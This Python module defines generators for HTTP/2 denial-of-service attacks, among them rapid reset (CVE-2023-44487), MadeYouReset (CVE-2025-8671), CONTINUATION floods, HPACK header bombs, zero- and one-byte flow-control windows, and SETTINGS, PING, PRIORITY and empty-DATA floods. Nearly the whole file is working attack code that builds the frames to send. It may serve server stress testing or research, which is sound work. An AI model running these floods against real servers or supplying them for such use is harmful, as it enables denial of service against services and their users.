"""Attacks of a client that floods: each is a generator of what to send next on one
connection; `None` is a pause in which it only reads."""

import itertools
import random
import struct

from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
    frame, length, literal, request, reset, settings, window_update,
)

CHUNK = 200  # what is sent at once, so that the server has much to read in one go
STREAMS = range(1, 200_000, 2)


def chunks(pieces):
    """Joins pieces into larger writes."""
    pieces = iter(pieces)
    while taken := b"".join(itertools.islice(pieces, CHUNK)):
        yield taken


def get(stream: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def rapid_reset(identity):
    """CVE-2023-44487: a request and its cancellation, as fast as can be."""
    block = request(identity)
    return chunks(get(stream, block) + reset(stream) for stream in STREAMS)


def late_reset(identity):
    """The same with a pause, so that each request is under way before it is cancelled."""
    block = request(identity, "/slow")
    for first in range(1, 200_000, 40):
        streams = range(first, first + 40, 2)
        yield b"".join(get(stream, block) for stream in streams)
        yield None
        yield b"".join(reset(stream) for stream in streams)


def made_you_reset(identity):
    """CVE-2025-8671: frames that make the server reset the stream itself, of one kind each."""
    block = request(identity, "/slow")
    provoke = random.choice([
        lambda stream: window_update(stream, (1 << 31) - 1),
        lambda stream: frame(DATA, 0, stream, b"after the end"),
        lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)),
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block),
    ])
    return chunks(get(stream, block) + provoke(stream) for stream in STREAMS)


def continuation_flood(identity):
    """CVE-2024-27316 and others: a head that never ends."""
    yield frame(HEADERS, END_STREAM, 1, request(identity))
    piece = frame(CONTINUATION, 0, 1, literal("x-filler", "a" * 1000) * 16)
    while True:
        yield piece


def hpack_bomb(identity):
    """A large entry of the dynamic table, named by one byte again and again."""
    block = literal("x-bomb", "a" * 4000, indexed=True)
    bomb = length(62, 7, 0x80) * 16_000
    yield get(1, request(identity) + block)
    yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:])


def header_bomb(identity):
    """The same below the limit at which a connection is ended: each is answered."""
    block = literal("x-bomb", "a" * 4000, indexed=True)
    bomb = length(62, 7, 0x80) * 24
    yield get(1, request(identity) + block)
    yield from chunks(get(stream, request(identity) + bomb) for stream in STREAMS[1:])


def large_answers(identity):
    """A hundred of them asked for, not so fast that the asking is the attack."""
    block = request(identity, "/large")
    for first in range(0, 100, 10):
        yield b"".join(get(stream, block) for stream in STREAMS[first : first + 10])
        yield from [None] * 10


def zero_window(identity):
    """Large answers, and none taken."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    yield from large_answers(identity)
    while True:
        yield None


def tiny_window(identity):
    """The same, taken byte by byte."""
    yield settings((INITIAL_WINDOW_SIZE, 1))
    yield from large_answers(identity)
    more = b"".join(window_update(stream, 1) for stream in STREAMS[:100])
    while True:
        yield more


def settings_flood(_):
    piece = settings((INITIAL_WINDOW_SIZE, 1000), (INITIAL_WINDOW_SIZE, 65535))
    while True:
        yield piece * CHUNK


def ping_flood(_):
    piece = frame(PING, 0, 0, b"floodped")
    while True:
        yield piece * CHUNK


def priority_flood(_):
    piece = frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))
    while True:
        yield piece * CHUNK


def empty_data(identity):
    """An upload of nothing at all, for ever."""
    yield frame(HEADERS, END_HEADERS, 1, request(identity, "/upload", "POST"))
    piece = frame(DATA, 0, 1)
    while True:
        yield piece * CHUNK


